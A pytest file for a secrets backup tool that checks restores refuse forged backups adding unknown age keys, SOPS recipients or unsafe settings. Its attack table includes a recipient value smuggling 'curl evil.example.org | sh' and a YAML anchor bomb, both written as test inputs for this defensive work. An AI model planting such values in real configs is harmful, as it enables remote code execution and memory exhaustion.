"""A backup's folder may be writable by a stranger: no restore gives them the secrets without saying so first."""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from conche.backup import acceptance, sealing
from conche.backup.acceptance import Readership
from conche.backup.exchange import Pair
from conche.backup.site import Site, open_site
from conche.command import Invocation
from conche.errors import ConcheError, KeyUnusable, Refused
from conche.output import Output
from conche.secret import Secret
from conche.vault import keys
from conche.vault.readers import Access, Readers
from conche.vault.recipients import new_key, write_recipients
from tests.backup.checkouts import Checkout, tree
from tests.backup.test_forged import forge
from tests.test_output import Terminal, at_terminal

__all__ = ["at_terminal"]

IDENTITY, STRANGER = keys.generate()
KEY, RULES, FILE = "age-key.txt", ".sops.yaml", "secrets.enc.yaml"

Contents = dict[str, str]


def rules_with(text: str, *recipients: str, **more: object) -> str:
    """The rules with other recipients, and with more settings."""
    said = yaml.safe_load(text)
    said["creation_rules"][0].update({**({"age": list(recipients)} if recipients else {}), **more})
    return yaml.safe_dump(said)


def file_with(text: str, recipient: str) -> str:
    """The encrypted file with one more recipient."""
    said = yaml.safe_load(text)
    said["sops"]["age"].append({**said["sops"]["age"][0], "recipient": recipient})
    return yaml.safe_dump(said)


def known(files: Contents) -> str:
    return str(yaml.safe_load(files[RULES])["creation_rules"][0]["age"][0])


BOMB = "\n".join(
    ["a0: &a0 [x, x, x, x, x, x, x, x, x]", *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9))]
)

Attack = Callable[[Contents], Contents]

ATTACKS: dict[str, tuple[Attack, str]] = {
    "another age key": (lambda files: {KEY: IDENTITY.reveal()}, "key-not-accepted"),
    "another age key beside ours": (
        lambda files: {KEY: f"{files[KEY]}\n{IDENTITY.reveal()}\n"}, "key-not-accepted",
    ),
    "one more recipient": (
        lambda files: {RULES: rules_with(files[RULES], known(files), STRANGER)}, "key-not-accepted",
    ),
    "another recipient": (lambda files: {RULES: rules_with(files[RULES], STRANGER)}, "key-not-accepted"),
    "a rule in front": (
        lambda files: {RULES: f"creation_rules: [{{path_regex: '.*', age: {STRANGER}}}]\n"}, "key-not-accepted",
    ),
    "one more recipient of the file": (lambda files: {FILE: file_with(files[FILE], STRANGER)}, "key-not-accepted"),
    "all of it": (
        lambda files: {
            KEY: IDENTITY.reveal(), RULES: rules_with(files[RULES], STRANGER), FILE: file_with(files[FILE], STRANGER),
        },
        "key-not-accepted",
    ),
    "a setting that leaves values in clear": (
        lambda files: {RULES: rules_with(files[RULES], unencrypted_regex=".*")}, "sops-config-foreign",
    ),
    "a key of another kind": (
        lambda files: {RULES: rules_with(files[RULES], pgp="85D77543B3D624B63CEA9E6DBC17301B491B3F21")},
        "sops-config-foreign",
    ),
    "a group of keys": (
        lambda files: {RULES: rules_with(files[RULES], key_groups=[{"age": [STRANGER]}])}, "sops-config-foreign",
    ),
    "a place to publish to": (
        lambda files: {RULES: files[RULES] + "destination_rules: [{s3_bucket: strange}]\n"}, "sops-config-foreign",
    ),
    "a recipient that is a command": (
        lambda files: {RULES: rules_with(files[RULES], known(files), "age1x'\ncurl evil.example.org | sh #")},
        "recipient-malformed",
    ),
    "rules that take all memory": (lambda files: {RULES: BOMB}, "sops-config-unusable"),
    "rules that are none": (lambda files: {RULES: "creation_rules: {a: [}"}, "sops-config-unusable"),
    "rules of another shape": (lambda files: {RULES: "creation_rules: [[age1x]]"}, "sops-config-unusable"),
    "a key that is none": (lambda files: {KEY: "AGE-SECRET-KEY-1GARBAGE"}, "key-malformed"),
    "no key at all": (lambda files: {KEY: "# only a comment\n"}, "key-malformed"),
}  # fmt: skip


@pytest.fixture
def made(tmp_path: Path) -> Path:
    """The folder of a checkout with a key, rules and an encrypted file."""
    folder = tmp_path / "factory"
    folder.mkdir()
    (folder / "compose.yaml").write_text("services: {web: {image: x}}\n")
    (folder / "stack.yaml").write_text(
        "name: factory\nsecrets: {declared: {alpha: {required: false}}}\n"
        "backup: {components: {secrets: {driver: secrets}}}\nenvironments: {dev: {compose: [compose.yaml]}}\n"
    )
    key = new_key(folder / keys.DEFAULT_FILE)
    write_recipients(folder, folder / FILE, key.public)
    age = [{"recipient": one, "enc": "x"} for one in key.public]
    (folder / FILE).write_text(yaml.safe_dump({"alpha": "ENC[x]", "sops": {"age": age, "mac": "ENC[x]"}}))
    return folder


@pytest.fixture
def files(made: Path) -> Contents:
    """What decides who can read the secrets of the checkout."""
    return {
        KEY: (made / keys.DEFAULT_FILE).read_text(),
        RULES: (made / RULES).read_text(),
        FILE: (made / FILE).read_text(),
    }


def placed(contents: Contents) -> dict[Path, bytes]:
    return {keys.DEFAULT_FILE if name == KEY else Path(name): text.encode() for name, text in contents.items()}


def changes(folder: Path, contents: Contents) -> list[Access]:
    return list(Readers(folder, [Path(FILE)]).changes(placed(contents)))


def refusal(folder: Path, contents: Contents) -> ConcheError:
    with pytest.raises(ConcheError) as refused:
        Readership(tuple(changes(folder, contents))).accepted(
            Output("backup.restore"), "a_daily", "invoke backup.restore a_daily", accept=(), plain_key=False
        )
    return refused.value


@pytest.mark.parametrize(("attack", "code"), ATTACKS.values(), ids=list(ATTACKS))
def test_no_stranger_s_key_is_taken_unasked(made: Path, files: Contents, attack: Attack, code: str) -> None:
    error = refusal(made, attack(files))

    assert error.code == code
    if code == "key-not-accepted":
        assert error.next_command.startswith(f"invoke backup.restore a_daily --accept-key {STRANGER}  ")
        assert any(known(files) in line and STRANGER in line for line in error.looked_at)


def test_equal_files_need_nothing(made: Path, files: Contents) -> None:
    assert changes(made, files) == []


def test_other_files_with_the_same_keys_need_nothing(made: Path, files: Contents) -> None:
    bare = "\n".join(line for line in files[KEY].splitlines() if not line.startswith("#"))
    said = yaml.safe_load(files[RULES])["creation_rules"][0]
    renamed = yaml.safe_dump({"creation_rules": [{**said, "path_regex": "^other$", "age": known(files) + ","}]})

    assert changes(made, {KEY: bare, RULES: renamed, FILE: files[FILE] + "# a comment\n"}) == []


@pytest.mark.parametrize("left", [RULES, FILE], ids=["by .sops.yaml", "by the encrypted file"])
def test_a_new_machine_takes_the_key_of_a_recipient(tmp_path: Path, files: Contents, left: str) -> None:
    (tmp_path / left).write_text(files[left])

    [ours] = changes(tmp_path, {KEY: files[KEY]})
    [strange] = changes(tmp_path, {KEY: IDENTITY.reveal()})

    assert (ours.new, strange.new) == ([], [STRANGER])
    assert [one.new for one in changes(tmp_path, {RULES: files[RULES], FILE: files[FILE]})] == []


def test_an_empty_folder_takes_nothing_unasked(tmp_path: Path, files: Contents) -> None:
    assert {key for one in changes(tmp_path, files) for key in one.new} == {known(files)}


def test_whoever_could_read_only_one_file_is_new_to_another(tmp_path: Path) -> None:
    ours, theirs = keys.generate()[1], keys.generate()[1]
    rules = [{"path_regex": "^dev", "age": [ours, theirs]}, {"path_regex": "^prod", "age": [ours]}]
    (tmp_path / RULES).write_text(yaml.safe_dump({"creation_rules": rules}))

    turned = [{**rules[0], "path_regex": "^prod"}, {**rules[1], "path_regex": "^dev"}]
    found = changes(tmp_path, {RULES: yaml.safe_dump({"creation_rules": turned})})

    assert [one.new for one in found] == [[theirs]]


def test_a_recipient_who_leaves_is_shown_and_needs_no_acceptance(tmp_path: Path) -> None:
    ours, theirs = keys.generate()[1], keys.generate()[1]
    (tmp_path / RULES).write_text(yaml.safe_dump({"creation_rules": [{"path_regex": "x", "age": [ours, theirs]}]}))

    [found] = changes(tmp_path, {RULES: yaml.safe_dump({"creation_rules": [{"path_regex": "x", "age": ours}]})})

    assert (found.new, theirs in str(found)) == ([], True)


@pytest.mark.parametrize("words", [[STRANGER], [f"age1x,{STRANGER}"], ["age1x", f" {STRANGER} ,"]])
def test_accepted_keys_are_given_one_by_one_or_with_commas(words: list[str]) -> None:
    seen = Readership((Access("the age key", (), (STRANGER,), frozenset()),))

    taken = seen.accepted(Output("x"), "a", "b", accept=acceptance.given(words), plain_key=False)

    assert taken == {STRANGER}


def test_a_private_key_is_not_repeated() -> None:
    with pytest.raises(Refused) as refused:
        acceptance.given([IDENTITY.reveal()])

    assert refused.value.code == "recipient-malformed"
    assert IDENTITY.reveal() not in str(refused.value.as_json())


@pytest.mark.parametrize(("typed", "taken"), [("yes\n", True), ("no\n", False), ("\n", False)])
def test_on_a_terminal_both_keys_are_shown_and_confirmed(typed: str, taken: bool, at_terminal: Terminal) -> None:
    seen = Readership((Access("the age key", ("age1present",), ("age1coming",), frozenset()),))
    said: list[str] = []

    def work(output: Output) -> None:
        try:
            said.extend(seen.accepted(output, "a_daily", "b", accept=(), plain_key=False))
        except Refused as error:
            said.append(error.code)

    shown = at_terminal(work, typed)

    assert "the age key: now age1present; then age1coming" in shown
    assert said == (["age1coming"] if taken else ["not-confirmed"])


# What is staged is what was accepted


@pytest.fixture
def site(made: Path) -> Site:
    return open_site(Invocation(made, Output("backup.restore")))


@pytest.mark.parametrize("by", ["itself", "a folder above it"])
def test_what_has_changed_since_it_was_accepted_is_refused(
    site: Site, files: Contents, tmp_path: Path, by: str
) -> None:
    (tmp_path / ".sops").mkdir()
    (tmp_path / keys.DEFAULT_FILE).write_text(IDENTITY.reveal())
    place = keys.DEFAULT_FILE if by == "itself" else Path(".sops")
    pairs = [Pair.of(tmp_path / place, site.root / place)]

    acceptance.require_staged(site, pairs, [STRANGER])
    with pytest.raises(Refused) as refused:
        acceptance.require_staged(site, pairs, [])

    assert (refused.value.code, STRANGER in refused.value.next_command) == ("key-not-accepted", True)


@pytest.mark.parametrize("place", [RULES, ".sops"])
def test_a_link_in_place_of_what_decides_is_refused(site: Site, tmp_path: Path, place: str) -> None:
    (tmp_path / place).symlink_to(tmp_path)

    with pytest.raises(Refused) as refused:
        acceptance.require_staged(site, [Pair.of(tmp_path / place, site.root / place)], [])

    assert refused.value.code == "sops-config-foreign"


# The command


@pytest.fixture
def checkout(tmp_path: Path) -> Checkout:
    return Checkout.create(tmp_path)


def put(backup: Path, contents: Contents) -> None:
    """Replace secrets in a backup, and make the manifest fit."""

    def forgery(content: dict[str, Any]) -> None:
        for one in content["components"]["secrets"]["artifacts"]:
            if (name := Path(one["path"]).name) in contents:
                one.update(artifact_of(contents[name].encode()))

    for name, text in contents.items():
        (backup / "secrets" / name).unlink()
        (backup / "secrets" / name).write_text(text)
    forge(backup, forgery)


def artifact_of(content: bytes) -> dict[str, object]:
    return {"size": len(content), "sha256": hashlib.sha256(content).hexdigest()}


@pytest.mark.process
def test_a_forged_backup_swaps_no_key(checkout: Checkout) -> None:
    backup = checkout.create_backup()
    rules = (checkout.folder / RULES).read_text()
    put(backup, {KEY: IDENTITY.reveal() + "\n", RULES: rules_with(rules, STRANGER)})
    words = ("backup.restore", "latest", "--component", "secrets", "--force", "--yes")
    before = tree(checkout.folder)

    plain = checkout.invoke(*words)
    unknown = checkout.invoke(*words, "--plain-key", "--json")
    planned = checkout.invoke(*words, "--dry-run", "--json")
    drilled = checkout.invoke("backup.drill")

    error = json.loads(unknown.stdout)["error"]
    assert (plain.returncode, "[key-is-plain]" in plain.stderr) == (2, True), plain.stderr
    assert (unknown.returncode, error["code"]) == (2, "key-not-accepted")
    assert f"--component secrets --force --plain-key --accept-key {STRANGER}" in error["next"]
    assert planned.returncode == 0, planned.stderr
    document = json.loads(planned.stdout)
    assert [one["to_accept"] for one in document["value"]["keys"]] == [[STRANGER], [STRANGER]]
    assert f"--accept-key {STRANGER}" in str(document["plan"])
    assert "--plain-key" in str(document["plan"])
    assert drilled.returncode == 0, drilled.stderr
    assert tree(checkout.folder, without=(".backup",)) == {
        name: value for name, value in before.items() if name.partition("/")[0] != ".backup"
    }


@pytest.mark.process
def test_a_key_that_was_sealed_for_us_by_a_stranger_is_refused_too(checkout: Checkout) -> None:
    backup = checkout.create_backup()
    recovery = keys.public_of(checkout.recovery.read_text().strip())
    put(backup, {KEY: sealing.seal(Secret(IDENTITY.reveal()), [recovery]).decode()})
    words = ("backup.restore", "latest", "--component", "secrets", "--force", "--recovery-key", str(checkout.recovery))

    refused = checkout.invoke(*words)
    taken = checkout.invoke(*words, "--accept-key", STRANGER, "--json")

    assert (refused.returncode, "[key-not-accepted]" in refused.stderr) == (2, True), refused.stderr
    assert taken.returncode == 0, taken.stderr
    [change] = json.loads(taken.stdout)["value"]["keys"]
    assert (change["what"], change["coming"], change["to_accept"]) == ("the age key", [STRANGER], [STRANGER])
    assert STRANGER in (checkout.folder / keys.DEFAULT_FILE).read_text()


@pytest.mark.process
def test_recipients_in_another_component_are_guarded_as_well(checkout: Checkout) -> None:
    checkout.replace("stack.yaml", 'paths: [compose.yaml, "*.conf"]', 'paths: [compose.yaml, ".sops.yaml"]')
    rules = (checkout.folder / RULES).read_text()
    checkout.write(RULES, rules_with(rules, STRANGER))
    checkout.create_backup()
    checkout.write(RULES, rules)

    refused = checkout.invoke("backup.restore", "latest", "--component", "config", "--force")

    assert (refused.returncode, "[key-not-accepted]" in refused.stderr) == (2, True), refused.stderr
    assert (checkout.folder / RULES).read_text() == rules


@pytest.mark.process
def test_a_machine_with_nothing_but_the_stack_file_names_what_to_accept(checkout: Checkout) -> None:
    checkout.create_backup()
    [public] = keys.require(checkout.folder, {}).public
    for name in (RULES, FILE):
        (checkout.folder / name).unlink()
    shutil.rmtree(checkout.folder / ".sops")
    words = ("backup.restore", "latest", "--component", "secrets", "--recovery-key", str(checkout.recovery), "--force")

    refused = checkout.invoke(*words)
    assert (refused.returncode, f"--accept-key {public}" in refused.stderr) == (2, True), refused.stderr
    assert not (checkout.folder / RULES).exists()

    done = checkout.invoke(*words, f"--accept-key={public}")

    assert done.returncode == 0, done.stderr
    assert checkout.invoke("secrets.list").returncode == 0


def test_an_unusable_key_in_place_is_not_taken_for_none(tmp_path: Path, files: Contents) -> None:
    (tmp_path / RULES).write_text(files[RULES])
    (tmp_path / ".sops").mkdir()
    (tmp_path / keys.DEFAULT_FILE).write_text("garbage")

    [found] = changes(tmp_path, {KEY: files[KEY]})

    assert found.new == [known(files)]
    with pytest.raises(KeyUnusable):
        changes(tmp_path, {KEY: "garbage too"})
